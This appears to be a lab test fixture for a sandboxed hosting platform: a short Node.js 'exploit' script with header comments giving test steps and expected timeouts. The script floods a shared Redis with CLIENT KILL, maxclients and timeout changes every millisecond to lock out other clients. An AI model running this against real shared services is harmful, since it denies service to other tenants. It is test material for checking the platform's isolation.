// exploit: ends every connection of others to its Redis as fast as it can, while the runner shortens lives and lists keys over one
// part: no
// kind: lab
// steps: GET / | wait 60 | GET / | wait 60 | GET /
// outcome: finished cpu-timeout wall-timeout
// sees: "status":200
// job: {"services":["redis"],"listsKeys":true,"limits":{"wallMs":10000}}
const { createClient } = require('redis')
let client
const cut = () => {
  for (const words of [['CLIENT', 'KILL', 'TYPE', 'normal', 'SKIPME', 'yes'], ['CLIENT', 'NO-EVICT', 'on'], ['CONFIG', 'SET', 'maxclients', '1'], ['CONFIG', 'SET', 'timeout', '1'], ['SET', `k${Math.random()}`, '1', 'EX', '100']]) client.sendCommand(words).catch(() => {})
}
require('node:http').createServer(async (req, res) => {
  client ??= await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  setInterval(cut, 1)
  res.end('ok')
}).listen(process.env.PORT)
